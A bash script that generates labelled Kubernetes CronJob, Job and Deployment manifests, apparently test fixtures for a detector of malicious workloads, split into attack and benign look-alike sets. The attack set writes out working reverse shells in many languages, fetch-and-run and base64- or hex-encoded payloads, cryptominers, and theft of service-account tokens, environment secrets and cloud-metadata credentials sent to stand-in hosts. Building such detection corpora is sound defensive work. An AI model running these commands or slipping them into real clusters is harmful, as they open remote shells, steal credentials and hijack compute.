#!/usr/bin/env bash
# Regenerates the corpus manifests that kubectl's own generators can express, offline
# (`kubectl create cronjob|job|deployment … --dry-run=client -o yaml`; kubectl v1.32).
# Files written here are kubectl's output untouched; every other manifest in this folder is
# hand-written (see README.md). Expectations live in index.yaml, never in the manifests.
set -euo pipefail
cd "$(dirname "$0")"

gen() { # gen FILE kubectl-args…
  local file=$1
  shift
  # `create KIND NAME` first, then the flags, so they stay before `--` and never reach the command.
  kubectl "$1" "$2" "$3" --dry-run=client -o yaml "${@:4}" >"$file"
}

# ---------------------------------------------------------------- attack
# Atomic Red Team T1053.007 test 1: reverse shell CronJob (nc -e) on alpine.
gen attack/art1-reverse-shell-cronjob.yaml create cronjob argus-test-cronjob --image=alpine:latest \
  --schedule='*/5 * * * *' -- /bin/sh -c 'nc 10.0.0.1 4444 -e /bin/sh'
# Atomic Red Team T1053.007 test 4: cryptominer CronJob (curl, chmod +x, stratum).
gen attack/art4-miner-cronjob.yaml create cronjob miner-cronjob --image=ubuntu:20.04 --schedule='*/10 * * * *' \
  -- /bin/bash -c 'apt-get update && apt-get install -y curl && curl -sL http://203.0.113.7/xmrig -o /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o stratum+tcp://pool.example.net:3333 -u WALLET --donate-level 1'
gen attack/revshell-bash-dev-tcp.yaml create cronjob sync-metrics --image=debian:12-slim --schedule='*/15 * * * *' \
  -- /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1'
gen attack/revshell-mkfifo-nc.yaml create job log-shipper --image=busybox:1.36 \
  -- sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.23 4242 >/tmp/f'
gen attack/revshell-python3.yaml create cronjob telemetry --image=python:3.12-slim --schedule='0 * * * *' \
  -- python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.23",8443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty;pty.spawn("/bin/bash")'
gen attack/revshell-perl.yaml create job report-gen --image=perl:5.38 \
  -- perl -e 'use Socket;$i="198.51.100.23";$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
gen attack/revshell-socat.yaml create cronjob cache-refresh --image=alpine/socat:1.8.0.0 --schedule='*/30 * * * *' \
  -- socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:4443
gen attack/revshell-ncat-ssl-argv.yaml create job net-probe --image=alpine:3.20 \
  -- ncat --ssl 198.51.100.23 443 -e /bin/sh
gen attack/revshell-nc-argv.yaml create cronjob heartbeat --image=alpine:3.20 --schedule='*/5 * * * *' \
  -- nc -e /bin/sh 198.51.100.23 4444
gen attack/revshell-busybox-nc-argv.yaml create job bb-net --image=busybox:1.36 \
  -- busybox nc 198.51.100.23 4444 -e /bin/sh
gen attack/revshell-php.yaml create job php-worker --image=php:8.3-cli \
  -- php -r '$sock=fsockopen("198.51.100.23",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
gen attack/revshell-ruby.yaml create cronjob ruby-task --image=ruby:3.3-alpine --schedule='@hourly' \
  -- ruby -rsocket -e 'f=TCPSocket.open("198.51.100.23",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
gen attack/revshell-exec-fd.yaml create job fd-loop --image=bash:5.2 \
  -- bash -c 'exec 5<>/dev/tcp/198.51.100.23/80; cat <&5 | while read line; do $line 2>&5 >&5; done'
gen attack/revshell-telnet-pipe.yaml create cronjob tn --image=debian:12 --schedule='*/20 * * * *' \
  -- sh -c 'telnet 198.51.100.23 4444 | /bin/sh | telnet 198.51.100.23 4445'
gen attack/revshell-node.yaml create deployment api-helper --image=node:20-alpine \
  -- node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"198.51.100.23",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});'
gen attack/download-curl-pipe-sh.yaml create cronjob update-agent --image=curlimages/curl:8.8.0 --schedule='0 */6 * * *' \
  -- sh -c 'curl -fsSL http://198.51.100.23/install.sh | sh'
gen attack/download-wget-pipe-bash.yaml create deployment worker --image=ubuntu:22.04 \
  -- bash -c 'wget -qO- http://malicious.example/x.sh | bash; sleep infinity'
gen attack/download-chmod-run.yaml create job setup-tool --image=alpine:3.20 \
  -- sh -c 'wget -q http://198.51.100.23/kdevtmpfsi -O /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi'
gen attack/download-chmod-755-devshm.yaml create cronjob cleanup --image=busybox:1.36 --schedule='*/10 * * * *' \
  -- sh -c 'cd /dev/shm && wget http://198.51.100.23/k -O .k && chmod 755 .k && ./.k'
gen attack/download-process-substitution.yaml create job bootstrap --image=bash:5.2 \
  -- bash -c 'bash <(curl -s http://198.51.100.23/boot.sh)'
gen attack/download-command-substitution.yaml create cronjob updater --image=alpine:3.20 --schedule='@daily' \
  -- sh -c 'sh -c "$(curl -fsSL https://paste.example/raw/abc)"'
gen attack/download-python-exec.yaml create job py-loader --image=python:3.12 \
  -- python3 -c 'import urllib.request;exec(urllib.request.urlopen("http://198.51.100.23/p.py").read())'
gen attack/encoded-base64-pipe.yaml create cronjob maint --image=alpine:3.20 --schedule='*/5 * * * *' \
  -- sh -c 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzQ0MyAwPiYx | base64 -d | bash'
gen attack/encoded-eval-base64.yaml create job eval-job --image=debian:12 \
  -- bash -c 'eval "$(echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgc2g= | base64 --decode)"'
gen attack/encoded-printf-hex.yaml create cronjob hexer --image=busybox:1.36 --schedule='*/7 * * * *' \
  -- sh -c "printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x30\\x30\\x2e\\x32\\x33\\x2f\\x78\\x7c\\x73\\x68' | sh"
gen attack/encoded-xxd-hex.yaml create job hexdump --image=debian:12 \
  -- sh -c 'echo 6e63202d65202f62696e2f7368203139382e35312e3130302e32332034343434 | xxd -r -p | sh'
gen attack/encoded-python-b64exec.yaml create cronjob pyb --image=python:3.12-alpine --schedule='*/3 * * * *' \
  -- python3 -c 'import base64;exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94IHwgc2giKQ=="))'
gen attack/miner-xmrig-argv.yaml create cronjob xm --image=alpine:3.20 --schedule='* * * * *' \
  -- /opt/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --cpu-max-threads-hint=75
gen attack/miner-renamed-deployment.yaml create deployment kworker --image=ubuntu:22.04 \
  -- /usr/local/bin/kworker -o stratum+ssl://xmr.pool.example:443 -u wallet.rig01 -p x -k --tls --donate-level=1
gen attack/miner-cpuminer.yaml create job compute --image=debian:12 \
  -- sh -c 'minerd -a cryptonight -o stratum+tcp://mine.example.org:4444 -u worker -p x -t 4'
gen attack/miner-image.yaml create cronjob metrics-agent --image=metal3d/xmrig:latest --schedule='*/30 * * * *'
gen attack/sa-token-exfil-curl.yaml create cronjob token-sync --image=curlimages/curl:8.8.0 --schedule='@hourly' \
  -- sh -c 'curl -s -X POST --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token http://198.51.100.23/t'
gen attack/cloud-metadata-aws.yaml create job iam-check --image=amazon/aws-cli:2.15.0 \
  -- sh -c 'R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/); curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R | curl -s -X POST -d @- https://exfil.example/c'
gen attack/cloud-metadata-gcp.yaml create cronjob gcp-tok --image=google/cloud-sdk:slim --schedule='0 * * * *' \
  -- sh -c 'curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | curl -s -d @- http://198.51.100.23/g'
gen attack/cloud-metadata-azure.yaml create job imds --image=mcr.microsoft.com/azure-cli:2.60.0 \
  -- sh -c 'curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" > /tmp/t && curl -s -T /tmp/t http://198.51.100.23/a'
gen attack/offensive-image-kali.yaml create job recon --image=kalilinux/kali-rolling:latest \
  -- sh -c 'nmap -sS -p- 10.0.0.0/16 -oN /tmp/scan && curl -s -T /tmp/scan http://198.51.100.23/up'

# ---------------------------------------------------------------- benign
# Kubernetes docs: the hello CronJob and the pi Job.
gen benign/k8s-docs-hello-cronjob.yaml create cronjob hello --image=busybox:1.28 --schedule='* * * * *' \
  -- /bin/sh -c 'date; echo Hello from the Kubernetes cluster'
gen benign/k8s-docs-pi-job.yaml create job pi --image=perl:5.34.0 -- perl -Mbignum=bpi -wle 'print bpi(2000)'
gen benign/curl-health-check.yaml create cronjob api-health --image=curlimages/curl:8.8.0 --schedule='*/5 * * * *' \
  -- curl -fsS --max-time 5 http://api.default.svc.cluster.local:8080/healthz
gen benign/wget-health-check.yaml create cronjob frontend-probe --image=busybox:1.36 --schedule='*/2 * * * *' \
  -- /bin/sh -c 'wget -q -T 5 -O /dev/null http://frontend.web.svc/ready || exit 1'
gen benign/kubectl-cleanup-pods.yaml create cronjob cleanup-succeeded --image=bitnami/kubectl:1.30 --schedule='0 3 * * *' \
  -- kubectl delete pods -n ci --field-selector=status.phase==Succeeded
gen benign/kubectl-cleanup-jobs.yaml create cronjob prune-old-jobs --image=bitnami/kubectl:1.30.2 --schedule='30 2 * * *' \
  -- /bin/sh -c 'kubectl get jobs -n batch -o name --sort-by=.metadata.creationTimestamp | head -n -20 | xargs -r kubectl delete -n batch'
gen benign/ci-alpine-make.yaml create job build-4711 --image=alpine:3.20 \
  -- /bin/sh -c 'apk add --no-cache git make gcc musl-dev && git clone https://git.example.com/team/app.git /src && make -C /src test'
gen benign/ci-ubuntu-make.yaml create job build-4712 --image=ubuntu:24.04 \
  -- bash -c 'apt-get update && apt-get install -y --no-install-recommends build-essential ca-certificates && make -j2 all check'
gen benign/ci-node-npm.yaml create job web-ci --image=node:20-bookworm -- sh -c 'npm ci && npm test && npm run build'
gen benign/ci-go-build.yaml create job go-ci --image=golang:1.22 -- sh -c 'go build ./... && go vet ./... && go test ./...'
gen benign/ci-maven.yaml create job java-ci --image=maven:3.9-eclipse-temurin-21 -- mvn -B -ntp verify
gen benign/ci-gradlew.yaml create job gradle-ci --image=eclipse-temurin:21-jdk \
  -- sh -c 'chmod +x ./gradlew && ./gradlew --no-daemon build'
gen benign/log-rotation-pvc.yaml create cronjob app-log-rotate --image=busybox:1.36 --schedule='15 0 * * *' \
  -- find /logs -name '*.log' -mtime +7 -delete
gen benign/flyway-migration.yaml create job db-migrate-v42 --image=flyway/flyway:10 \
  -- flyway -url=jdbc:postgresql://postgres:5432/app -user=app -connectRetries=10 migrate
gen benign/alembic-migration.yaml create job alembic-upgrade --image=registry.example.com/payments/api:2.14.0 \
  -- alembic upgrade head
gen benign/ml-train-python.yaml create job train-resnet --image=pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime \
  -- python train.py --epochs 10 --batch-size 256 --data /data/imagenet
gen benign/python-c-report.yaml create cronjob daily-report --image=python:3.12-slim --schedule='0 7 * * *' \
  -- python -c 'import datetime; print("report for", datetime.date.today())'
gen benign/ml-evaluate.yaml create job eval-model --image=registry.example.com/ml/eval:1.3.1 \
  -- python3 evaluate.py --evaluation-set /data/holdout --metrics auc,f1
gen benign/nginx-deployment.yaml create deployment web --image=nginx:1.27
gen benign/redis-ping.yaml create cronjob redis-ping --image=redis:7-alpine --schedule='*/5 * * * *' \
  -- redis-cli -h redis.cache.svc -p 6379 ping
gen benign/dns-check.yaml create cronjob dns-check --image=busybox:1.36 --schedule='*/10 * * * *' \
  -- nslookup kubernetes.default.svc.cluster.local
gen benign/queue-drainer-every-minute.yaml create cronjob queue-drainer --image=registry.example.com/shop/worker:3.2.1 \
  --schedule='* * * * *' -- /app/worker --drain --max-messages 500
gen benign/node-script.yaml create cronjob session-cleanup --image=node:20-alpine --schedule='0 * * * *' \
  -- node scripts/cleanup-sessions.js --older-than 24h
gen benign/rsync-pvc-copy.yaml create job copy-assets --image=instrumentisto/rsync-ssh:alpine3.20 \
  -- rsync -a --delete /src/assets/ /dst/assets/
gen benign/slack-notify-curl.yaml create cronjob weekly-digest --image=curlimages/curl:8.8.0 --schedule='0 9 * * 1' \
  -- sh -c 'curl -fsS -X POST -H "Content-type: application/json" --data "{\"text\":\"weekly digest ready\"}" "$SLACK_WEBHOOK_URL"'
gen benign/cache-warmup-wget.yaml create cronjob cache-warmup --image=busybox:1.36 --schedule='*/30 * * * *' \
  -- sh -c 'for p in / /products /search; do wget -q --spider "http://shop.web.svc$p"; done'
gen benign/tarball-extract.yaml create job fetch-dataset --image=alpine:3.20 \
  -- sh -c 'wget -qO- https://data.example.org/datasets/v3/corpus.tar.gz | tar xz -C /data'
gen benign/openssl-secret.yaml create job gen-session-key --image=bitnami/kubectl:1.30 \
  -- sh -c 'kubectl create secret generic session-key -n web --from-literal=key="$(openssl rand -base64 32)" --dry-run=client -o yaml | kubectl apply -f -'
# The Kubernetes docs' "install kubectl on Linux" steps: a nested $(curl …) picks the version.
gen benign/k8s-docs-install-kubectl.yaml create job install-kubectl --image=debian:12-slim \
  -- bash -c 'apt-get update && apt-get install -y curl && curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd64/kubectl" && install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl && kubectl version --client'
gen benign/curator-indices.yaml create cronjob es-curator --image=untergeek/curator:8.0.10 --schedule='0 1 * * *' \
  -- curator --config /etc/curator/config.yml /etc/curator/actions.yml

# ---------------------------------------------------------------- runtime clients, scans, tokens, metadata
# Known gap: a port scan written as inline Python (network-scan reads scanner programs, not code).
gen attack/scan-python-socket-loop.yaml create job port-audit --image=python:3.12-slim \
  -- python3 -c 'import socket;print([p for p in range(1,1025) if socket.socket().connect_ex(("10.96.0.1",p))==0])'
# A remote dind service (tcp://docker:2375) runs the privileged binfmt installer: not the node's runtime.
gen benign/ci-binfmt-remote-docker.yaml create job binfmt-setup --image=docker:24 \
  -- docker --host tcp://docker:2375 run --rm --privileged tonistiigi/binfmt:qemu-v8.1.5 --install arm64
# Readiness of two services with nc -z: one port each, not a sweep.
gen benign/wait-for-two-services.yaml create job wait-deps --image=busybox:1.36 \
  -- sh -c 'until nc -z -w 2 redis 6379 && nc -z -w 2 postgres 5432; do sleep 2; done'
# The pod's token in a variable, sent only to $KUBERNETES_SERVICE_HOST.
gen benign/sa-token-env-apiserver.yaml create cronjob lease-check --image=curlimages/curl:8.8.0 --schedule='*/10 * * * *' \
  -- sh -c 'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sf --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "Authorization: Bearer $TOKEN" https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/apis/coordination.k8s.io/v1/namespaces/ops/leases'
# The instance's region from IMDS (no credential path): cloud-metadata-access warns, not more.
gen benign/imds-region-lookup.yaml create job region-probe --image=curlimages/curl:8.8.0 \
  -- curl -s http://169.254.169.254/latest/meta-data/placement/region

# ---------------------------------------------------------------- persistence, DNS, environment, interpreter grading
# A cron table written inside the container and crond started: the entry runs a fetched script every 5 minutes.
gen attack/persist-crontab-in-pod.yaml create cronjob cache-sweeper --image=alpine:3.20 --schedule='0 * * * *' \
  -- sh -c 'echo "*/5 * * * * wget -qO- http://198.51.100.23/p | sh" > /etc/crontabs/root && crond -f -l 8'
# The service-account token base32-encoded into DNS names: the lookups carry it to the domain's name server.
gen attack/cred-sa-token-dns-exfil.yaml create cronjob dns-warmup --image=alpine:3.20 --schedule='*/30 * * * *' \
  -- sh -c 'for c in $(base32 -w0 /var/run/secrets/kubernetes.io/serviceaccount/token | tr -d = | fold -w 60); do nslookup $c.t.k8s-metrics.example; done'
# The whole environment (Secrets given as env included) posted to a public host.
gen attack/cred-env-dump-post.yaml create job env-report --image=curlimages/curl:8.8.0 \
  -- sh -c 'env | curl -s -X POST --data-binary @- https://collect.k8s-metrics.example/e'
# Python fetches into /tmp and runs it with exec(open().read()): graded as the shell's download to /tmp.
gen attack/download-python-tmp-exec.yaml create cronjob feature-sync --image=python:3.12-slim --schedule='15 * * * *' \
  -- python3 -c 'import urllib.request as u
u.urlretrieve("https://cdn.update-check.example/agent.py", "/tmp/agent.py")
exec(open("/tmp/agent.py").read())'
# Node fetches from a tunnel and hands the text to eval as a promise callback.
gen attack/download-node-tunnel-then-eval.yaml create job asset-hash --image=node:22-alpine \
  -- node -e 'fetch("https://3f9a-203-0-113-5.ngrok-free.app/j.js").then(r => r.text()).then(eval)'
# HTTPS with certificate checks off, piped into a shell.
gen attack/download-curl-insecure-sh.yaml create cronjob cert-rotate --image=debian:12-slim --schedule='0 3 * * *' \
  -- bash -c 'curl -fsSk https://cdn.update-check.example/rotate.sh | bash'
# netcat copied under a kernel thread's name, then run with -e.
gen attack/revshell-renamed-nc.yaml create job kworker --image=alpine:3.20 \
  -- sh -c 'cp $(which nc) /tmp/kworker && /tmp/kworker 198.51.100.23 5555 -e /bin/sh'
# Fetched lines run one by one by awk system().
gen attack/download-awk-system.yaml create cronjob queue-drain --image=busybox:1.36 --schedule='*/10 * * * *' \
  -- sh -c "wget -qO- http://198.51.100.23/cmds | awk '{system(\$0)}'"
# Benign look-alikes: a cron table of the image's own commands, DNS checks, an environment dump to the log.
gen benign/crontab-logrotate-in-pod.yaml create deployment log-rotator --image=debian:12-slim \
  -- sh -c 'echo "0 * * * * /usr/sbin/logrotate /etc/logrotate.conf" | crontab - && exec cron -f'
gen benign/dns-check-nslookup.yaml create cronjob dns-check --image=busybox:1.36 --schedule='*/5 * * * *' \
  -- sh -c 'for h in kubernetes.default.svc.cluster.local api.github.com; do nslookup "$h" || exit 1; done'
gen benign/env-debug-log.yaml create job debug-env --image=alpine:3.20 \
  -- sh -c 'env | sort; exec /app/run'
